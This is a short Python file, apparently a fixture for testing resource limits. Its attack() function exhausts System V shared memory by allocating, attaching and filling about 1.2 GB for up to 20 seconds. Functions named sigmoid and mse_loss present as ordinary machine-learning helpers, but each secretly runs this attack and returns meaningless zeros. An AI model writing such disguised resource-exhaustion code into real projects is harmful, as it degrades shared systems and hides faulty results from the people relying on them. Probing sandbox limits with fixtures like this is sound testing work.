"""Fills System V shared memory with 1.2 GB, attached once, written, and detached again.

aims: exhaust
"""

import ctypes
import time

import numpy as np

IPC_CREAT, IPC_RMID = 0o1000, 0
SIZE = 100 * 2**20
HELD = []


def attack():
    end = time.monotonic() + 20
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    while len(HELD) < 12:
        number = libc.shmget(0, ctypes.c_size_t(SIZE), IPC_CREAT | 0o600)
        if number < 0:
            break
        address = libc.shmat(number, None, 0)
        # marked for removal while attached: nothing stays when the process ends
        libc.shmctl(number, IPC_RMID, None)
        if address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, SIZE)
        HELD.append(address)
    while HELD and time.monotonic() < end:
        time.sleep(0.5)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
